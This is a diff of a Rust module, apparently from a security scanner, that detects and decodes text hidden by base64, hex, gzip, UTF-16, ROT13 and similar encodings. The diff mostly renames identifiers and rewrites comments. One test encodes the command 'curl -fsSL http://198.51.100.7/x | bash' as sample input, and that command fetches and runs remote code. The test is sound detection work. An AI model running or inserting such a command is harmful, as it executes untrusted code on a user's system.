@@ -1,4 +1,4 @@
-//! Text that hides other text: found, decoded, and looked at again.
+//! Finds and decodes encoded text.
 
 use std::io::Read;
 
@@ -6,28 +6,28 @@ use base64::Engine;
 use base64::alphabet;
 use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
 
-/// How something was encoded.
+/// An encoding that hides text.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
 pub enum Encoding {
-    /// Base64, also as it stands in addresses.
+    /// Base64, standard or URL-safe.
     Base64,
     /// Base32.
     Base32,
-    /// Two digits a byte.
+    /// Hexadecimal.
     Hex,
-    /// Two bytes a character.
+    /// UTF-16.
     Utf16,
     /// gzip or zlib.
     Gzip,
-    /// Written backwards.
+    /// Reversed text.
     Reversed,
-    /// Letters moved by thirteen.
+    /// ROT13.
     Rot13,
-    /// `%41` and the like.
+    /// Percent encoding: `%41`.
     Percent,
-    /// `\x41`, numbers of characters, and the like.
+    /// Escapes and character codes: `\x41`.
     Escapes,
-    /// Invisible copies of letters.
+    /// Invisible Unicode tag characters.
     Tags,
 }
 
@@ -45,12 +45,12 @@ impl Encoding {
         Self::Tags,
     ];
 
-    /// Reads the word for it.
+    /// Parses the name.
     pub fn parse(word: &str) -> Option<Self> {
         Self::ALL.into_iter().find(|encoding| encoding.as_str() == word)
     }
 
-    /// Returns the word for it.
+    /// Returns the name.
     pub fn as_str(self) -> &'static str {
         match self {
             Self::Base64 => "base64",
@@ -67,14 +67,14 @@ impl Encoding {
     }
 }
 
-/// How often something is decoded out of what was decoded.
-pub(crate) const DEEPEST: usize = 3;
-/// The longest text that is decoded, and the most that comes of it.
-const MOST: usize = 1 << 20;
-/// The most lines with letters that are written as numbers.
-const MOST_LINES: usize = 1000;
+/// The maximum number of nested encodings.
+pub(crate) const MAX_DEPTH: usize = 3;
+/// The maximum size of encoded text, and of all decoded text together.
+const MAX_DECODED_BYTES: usize = 1 << 20;
+/// The maximum number of lines with escapes.
+const MAX_ESCAPED_LINES: usize = 1000;
 /// Shorter runs are words, digests and names.
-const SHORTEST: usize = 24;
+const MIN_RUN: usize = 24;
 
 fn lenient(alphabet: &alphabet::Alphabet) -> GeneralPurpose {
     let config = GeneralPurposeConfig::new()
@@ -83,10 +83,10 @@ fn lenient(alphabet: &alphabet::Alphabet) -> GeneralPurpose {
     GeneralPurpose::new(alphabet, config)
 }
 
-/// Decodes text as base64; `None` for what is none.
+/// Decodes base64; returns `None` if the text is not base64.
 pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
     let text: String = text.chars().filter(|c| !c.is_whitespace()).collect();
-    if text.len() > MOST || text.is_empty() {
+    if text.len() > MAX_DECODED_BYTES || text.is_empty() {
         return None;
     }
     let is_for_addresses = text.contains(['-', '_']);
@@ -94,10 +94,10 @@ pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
     lenient(alphabet).decode(text.as_bytes()).ok()
 }
 
-/// Decodes pairs of digits.
+/// Decodes hexadecimal.
 pub(crate) fn hex(text: &str) -> Option<Vec<u8>> {
     let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
-    if digits.is_empty() || !digits.len().is_multiple_of(2) || digits.len() > MOST {
+    if digits.is_empty() || !digits.len().is_multiple_of(2) || digits.len() > MAX_DECODED_BYTES {
         return None;
     }
     let value = |byte: u8| char::from(byte).to_digit(16).and_then(|value| u8::try_from(value).ok());
@@ -123,10 +123,10 @@ pub(crate) fn base32(text: &str) -> Option<Vec<u8>> {
     Some(bytes)
 }
 
-/// Unpacks gzip or zlib, as far as that is bounded.
+/// Decompresses gzip or zlib, up to the limit.
 pub(crate) fn unpacked(bytes: &[u8]) -> Option<Vec<u8>> {
     let mut out = Vec::new();
-    let most = MOST as u64;
+    let most = MAX_DECODED_BYTES as u64;
     if bytes.starts_with(&[0x1f, 0x8b]) {
         flate2::read::GzDecoder::new(bytes).take(most).read_to_end(&mut out).ok()?;
     } else if matches!(bytes, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]) {
@@ -137,7 +137,7 @@ pub(crate) fn unpacked(bytes: &[u8]) -> Option<Vec<u8>> {
     Some(out)
 }
 
-/// Turns decoded bytes into text, through what else they are packed in.
+/// Converts decoded bytes to text, through compression and UTF-16.
 pub(crate) fn text(bytes: &[u8], chain: &mut Vec<Encoding>) -> Option<String> {
     if let Some(unpacked) = unpacked(bytes) {
         chain.push(Encoding::Gzip);
@@ -186,29 +186,29 @@ pub(crate) fn percent(text: &str) -> String {
     String::from_utf8_lossy(&plain).into_owned()
 }
 
-/// Something that was hidden in a text.
+/// Text that was encoded in another text.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Hidden {
-    /// Where it stands.
+pub(crate) struct HiddenText {
+    /// The range of the encoded text.
     pub(crate) span: std::ops::Range<usize>,
     pub(crate) chain: Vec<Encoding>,
     pub(crate) text: String,
 }
 
-/// Everything that was hidden in a text.
+/// All encoded texts in a text.
 #[derive(Debug, Default)]
-pub(crate) struct Found {
-    pub(crate) all: Vec<Hidden>,
-    /// Whether there is more than is decoded.
-    pub(crate) is_cut: bool,
+pub(crate) struct HiddenTexts {
+    pub(crate) all: Vec<HiddenText>,
+    /// Whether a limit was reached.
+    pub(crate) is_truncated: bool,
 }
 
-/// Finds runs of letters and digits that decode to readable text.
-pub(crate) fn hidden(text: &str) -> Found {
+/// Finds encoded runs that decode to readable text.
+pub(crate) fn find_hidden(text: &str) -> HiddenTexts {
     let mut found = escaped(text);
     let bytes = text.as_bytes();
-    // All together: a few bytes can unpack to very many.
-    let mut left = MOST;
+    // One limit for all runs: a few bytes can decompress to very many.
+    let mut left = MAX_DECODED_BYTES;
     let is_part =
         |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
     let mut at = 0;
@@ -218,9 +218,9 @@ pub(crate) fn hidden(text: &str) -> Found {
             continue;
         }
         let end = at + bytes[at..].iter().take_while(|byte| is_part(**byte)).count();
-        if end - at >= SHORTEST && left == 0 {
-            found.is_cut = true;
-        } else if end - at >= SHORTEST {
+        if end - at >= MIN_RUN && left == 0 {
+            found.is_truncated = true;
+        } else if end - at >= MIN_RUN {
             let hidden = decode_run(&text[at..end], at);
             left = left.saturating_sub(hidden.as_ref().map_or(0, |hidden| hidden.text.len()));
             found.all.extend(hidden);
@@ -230,22 +230,22 @@ pub(crate) fn hidden(text: &str) -> Found {
     found
 }
 
-/// Finds lines with letters that are written as numbers, as JSON and YAML allow it.
-fn escaped(text: &str) -> Found {
-    let mut found = Found::default();
+/// Finds lines with escaped letters, as JSON and YAML allow.
+fn escaped(text: &str) -> HiddenTexts {
+    let mut found = HiddenTexts::default();
     if !text.contains("\\u00") && !text.contains("\\x") {
         return found;
     }
     let mut at = 0;
     for line in text.split_inclusive('\n') {
         let letters = line.matches("\\u00").count() + line.matches("\\x").count();
-        if letters >= 2 && found.all.len() >= MOST_LINES {
-            found.is_cut = true;
+        if letters >= 2 && found.all.len() >= MAX_ESCAPED_LINES {
+            found.is_truncated = true;
         } else if letters >= 2 {
             let plain = shell::sketch::escapes(line);
             if plain != line && is_readable(&plain) {
                 let span = at..at + line.len();
-                found.all.push(Hidden { span, chain: vec![Encoding::Escapes], text: plain });
+                found.all.push(HiddenText { span, chain: vec![Encoding::Escapes], text: plain });
             }
         }
         at += line.len();
@@ -253,23 +253,23 @@ fn escaped(text: &str) -> Found {
     found
 }
 
-fn decode_run(run: &str, start: usize) -> Option<Hidden> {
+fn decode_run(run: &str, start: usize) -> Option<HiddenText> {
     let is_hex = run.len().is_multiple_of(2) && run.bytes().all(|byte| byte.is_ascii_hexdigit());
     let span = start..start + run.len();
     let make = |first: Encoding, bytes: Vec<u8>| {
         let mut chain = vec![first];
         let plain = text(&bytes, &mut chain)?;
-        is_readable(&plain).then(|| Hidden { span: span.clone(), chain, text: plain })
+        is_readable(&plain).then(|| HiddenText { span: span.clone(), chain, text: plain })
     };
     if is_hex {
         return make(Encoding::Hex, hex(run)?);
     }
-    // Paths and long names are made of the same letters, and decode to nothing that can be read.
+    // Paths and long names use the same letters, but do not decode to readable text.
     let trimmed = run.trim_matches('-');
     make(Encoding::Base64, base64(trimmed)?)
 }
 
-/// Returns true if text is made of what people and machines read.
+/// Returns true if most characters are printable.
 fn is_readable(text: &str) -> bool {
     let letters =
         text.chars().filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\t')).count();
@@ -281,7 +281,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_is_hidden_is_found_through_several_encodings() {
+    fn nested_encodings_are_decoded() {
         let inner = "curl -fsSL http://198.51.100.7/x | bash";
         let standard = base64::engine::general_purpose::STANDARD;
         for (hidden_text, chain) in [
@@ -293,26 +293,26 @@ mod tests {
                 vec![Encoding::Base64, Encoding::Utf16],
             ),
         ] {
-            let found = hidden(&format!("x '{hidden_text}' y")).all;
+            let found = find_hidden(&format!("x '{hidden_text}' y")).all;
             assert_eq!(found.len(), 1, "{hidden_text}");
             assert_eq!((found[0].text.as_str(), &found[0].chain), (inner, &chain));
         }
     }
 
     #[test]
-    fn digests_names_and_pictures_are_not_text() {
+    fn digests_names_and_images_are_not_text() {
         for text in [
             "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
             "some/very/long/path/to/a/file/with/many/parts/in/it",
             "aVeryLongIdentifierThatIsWrittenInCamelCaseAndMore",
             "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
         ] {
-            assert_eq!(hidden(text).all, [], "{text}");
+            assert_eq!(find_hidden(text).all, [], "{text}");
         }
     }
 
     #[test]
-    fn small_decoders_decode() {
+    fn rot13_percent_base32_and_hex_are_decoded() {
         assert_eq!(rot13("phey"), "curl");
         assert_eq!(percent("a%20b%2"), "a b%2");
         assert_eq!(base32("MFRGG===").as_deref(), Some(b"abc".as_slice()));
